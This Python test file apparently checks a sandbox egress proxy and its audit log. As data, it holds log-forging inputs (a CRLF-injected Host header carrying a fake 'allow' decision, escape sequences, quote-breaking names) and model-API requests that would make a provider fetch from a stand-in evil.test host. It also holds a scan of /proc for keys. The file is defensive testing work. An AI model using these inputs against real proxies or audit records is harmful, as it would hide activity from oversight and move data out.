"""J and K: what the audit is told, and what could leave through places that rules allow."""
import json
import os

from bed import (CANARY, MARKER, TAG, attempt, ask, dial, get, https, listen_to, outcome_of, question, say, send,
                 talk, told, twin_git)


@attempt('J05', 'names and paths that would forge lines of the record', 'one row each, escaped', twin=twin_git, door='cove')
def _(a):
    for host in (b'a\r\n{"kind":"decision","allow":true}', b'\x1b[2J\x1b[31mroot', b'\xff\xfe\xfd', b'x' * 60000):
        a.refused(repr(host[:20]), talk(CANARY, 80, b'GET / HTTP/1.1\r\nHost: ' + host + b'\r\n\r\n'))
        a.record('malformed|bad_name')
    a.refused('quote', https('git.test', get('git.test', '/other/"},{"allow":true,"x":"')))
    a.record('request_not_allowed|bad_path|malformed')
    a.refused('name', outcome_of(ask(question(b'j05"},{"allow":true.evil.test'))), 'nxdomain')
    a.record('bad_name')


@attempt('J07', 'the record and the clock, from inside', 'neither is there', door='cove')
def _(a):
    import time
    a.fails('clock', time.clock_settime, time.CLOCK_REALTIME, 0)
    for path in ('/var/lib/cove', '/tmp/x-bed', '/run/cove'):
        a.check(path + ' is there', not os.path.exists(path + '/front'))


@attempt('K01', 'an upload to an allowed host that many people share', 'residual: rules can name methods and paths; else the bytes are on record', door='cove')
def _(a):
    with dial('raw.test', 5000) as s:
        send(s, b'upload ' + TAG.encode() + b'u' * 3000)
        a.check('answered', told(listen_to(s, 4, b'echo')) == 'answered')
    a.record('allowed')


def model(path, body, method='POST'):
    return say('models.cove', 80, get('models.cove', path, 'Content-Type: application/json', method=method, body=json.dumps(body).encode() if body is not None else b''))


@attempt('K03', 'a model call that makes the provider fetch from evil.test: MCP servers, files, images', 'refused: a host in a body is judged like any other', door='cove')
def _(a):
    evil = f'https://k03.{MARKER}.evil.test/x'
    for extra in ({'tools': [{'type': 'mcp', 'server_label': 'x', 'server_url': evil}]},
                  {'input': [{'role': 'user', 'content': [{'type': 'input_file', 'file_url': evil}]}]},
                  {'input': [{'role': 'user', 'content': [{'type': 'input_image', 'image_url': evil}]}]}):
        a.refused(str(list(extra)), model('/openai/v1/responses', {'model': 'm', 'input': 'x', **extra}))
        a.record('allowed|host_in_body')


@attempt('K04', 'routes of the provider that keep or list data; keys in the body', '404, or 501 for background', door='cove')
def _(a):
    for path in ('/openai/v1/files', '/openai/v1/batches', '/openai/v1/fine_tuning/jobs', '/openai/v1/assistants', '/openai/v1/organization/admin_api_keys', '/openai/v1/uploads', '/openai/v1/completions'):
        a.refused(path, model(path, {'purpose': MARKER}))
        a.record('allowed')
    a.refused('list', model('/openai/v1/files', None, 'GET'))
    a.refused('background', model('/openai/v1/responses', {'model': 'm', 'input': 'x', 'background': True}), '501', '400')
    a.record('allowed', 'allowed')


@attempt('K06', 'a key or token inside that would work from outside', 'there is none', door='cove')
def _(a):
    secrets = ('sk-bed-key', 'cove_e2e_admin_key')
    found = [k for k, v in os.environ.items() if any(s in v for s in secrets)]
    for pid in os.listdir('/proc'):
        if pid.isdigit():
            try:
                found += [pid for s in secrets if s.encode() in open(f'/proc/{pid}/environ', 'rb').read() + open(f'/proc/{pid}/cmdline', 'rb').read()]
            except OSError:
                pass
    a.check(f'found in {found}', not found)


@attempt('K10', 'lengths and times of an allowed stream', 'residual: out of scope, bytes and times are on record', door='cove')
def _(a):
    outcome = https('allowed.test', get('allowed.test', '/timing'))
    a.check(outcome, outcome == '200')
    a.record('allowed')
